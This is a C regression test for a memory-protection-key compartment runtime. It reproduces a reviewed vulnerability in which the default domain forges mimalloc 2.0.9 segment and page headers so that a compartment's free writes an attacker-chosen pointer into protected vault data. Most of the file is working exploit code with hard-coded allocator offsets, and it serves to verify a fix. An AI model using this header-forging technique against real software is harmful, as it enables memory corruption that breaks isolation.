// A compartment that frees a block of the default heap (an API that takes
// ownership of the caller's buffer; a shared block under a sharing policy,
// docs/heaps.md; realloc from a compartment of a default-heap block) runs
// the process-wide mimalloc's mi_free with the compartment's rights
// (runtime/heap.c free(): owner_of(p) < 0 -> mi_free(p), no gate). That
// mi_free reads the block's segment and page headers, which are key-0
// memory the default domain can rewrite. The default domain (attacker
// model B: it owns key-0 memory) sets, for its own block p, the segment's
// thread id to another thread's (the cross-thread free path), the page's
// thread-free word to "use the delayed free list", and the page's heap
// pointer to vault_data - offsetof(mi_heap_t, thread_delayed_free); then
// hands p to the vault's vault_release(). mimalloc pushes p on that
// "heap's" delayed-free list: a compare-and-swap, with the vault's rights,
// that writes p into the vault's data. Any address of the compartment's
// (its data, its heap, its heap's allocator state) takes an 8-byte
// pointer the attacker chose the block of; mimalloc's other free paths
// (page retire, queue unlink) are also write-what-where for forged
// headers. Found in the third review of the default domain's program
// counter (attacker model B); reproduced in the QEMU guest (6.1) with
// Debian 12's libmimalloc 2.0.9 (release build); the layout is checked
// before anything is written.
//
// Fixed (runtime/shared-heap.c, for review 3's attacker-A finding of
// the same kind): a compartment's free of a block outside its region runs
// mi_free with the default domain's rights, so the forged headers make it
// fault on the vault's data, which stops the process; the test runs the
// attack in a child and counts that as the data staying put.
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t
// RUN: %run %t | FileCheck %s
// CHECK: layout ok
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: {{attack failed|ok \(stopped by a fault}}
#define _GNU_SOURCE
#include "Inputs/check.h"
#include <bulkhead.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define SECRET "vault-secret-0123456789abcdef"

BULKHEAD_DATA(vault) static char vault_data[4096] __attribute__((aligned(4096))) = SECRET;

BULKHEAD_ENTRY(vault) int vault_data_intact(void) { return !strcmp(vault_data, SECRET); }
/* Takes ownership of the caller's buffer. */
BULKHEAD_ENTRY(vault) void vault_release(void *p) { free(p); }

void *mi_heap_get_default(void);

/* mimalloc 2.0.9, x86-64, release build (include/mimalloc-types.h). */
#define SEGMENT_SIZE ((uintptr_t)32 << 20)
#define SEG_KIND 240
#define SEG_THREAD_ID 256
#define SEG_SLICES 264
#define SLICE_SIZE 80 /* sizeof(mi_page_t) */
#define SLICE_SHIFT 16
#define PAGE_SLICE_OFFSET 4
#define PAGE_XBLOCK_SIZE 28
#define PAGE_XTHREAD_FREE 40
#define PAGE_XHEAP 48

#define W(a) (*(volatile uintptr_t *)(a))
#define W32(a) (*(volatile uint32_t *)(a))

static int attack(void) {
  if (!vault_data_intact())
    return 1;
  uintptr_t tid;
  __asm__("movq %%fs:0, %0" : "=r"(tid));
  char *p = malloc(64); /* the default domain's: the default heap */
  uintptr_t seg = (uintptr_t)p & ~(SEGMENT_SIZE - 1);
  uintptr_t slice = seg + SEG_SLICES + (((uintptr_t)p - seg) >> SLICE_SHIFT) * SLICE_SIZE;
  uintptr_t page = slice - W32(slice + PAGE_SLICE_OFFSET);
  uintptr_t heap = (uintptr_t)mi_heap_get_default();
  /* thread_delayed_free is the word before thread_id (struct mi_heap_s). */
  long delayed = -1;
  for (long k = 8; k < 4096; k += 8)
    if (W(heap + k) == tid) {
      delayed = k - 8;
      break;
    }
  if (W(seg + SEG_THREAD_ID) != tid || W32(seg + SEG_KIND) != 0 || W(page + PAGE_XHEAP) != heap ||
      W32(page + PAGE_XBLOCK_SIZE) < 64 || delayed < 0) {
    printf("layout mismatch: not mimalloc 2.0.9 as expected\n");
    return 1;
  }
  printf("layout ok\n");
  fflush(stdout);
  W(seg + SEG_THREAD_ID) = tid + 1;                       /* another thread's segment */
  W(page + PAGE_XTHREAD_FREE) &= ~(uintptr_t)3;           /* MI_USE_DELAYED_FREE */
  W(page + PAGE_XHEAP) = (uintptr_t)vault_data - delayed; /* heap->thread_delayed_free */
  vault_release(p);
  W(seg + SEG_THREAD_ID) = tid; /* the default heap as it was */
  W(page + PAGE_XHEAP) = heap;
  if (!vault_data_intact())
    printf("ATTACK SUCCEEDED: a free in the vault wrote %p into the vault's data\n", (void *)p);
  else
    printf("attack failed: the vault's data is intact\n");
  return 0;
}

int main(void) {
  return attack_in_child("attacks-review3-free-default-block", attack);
}
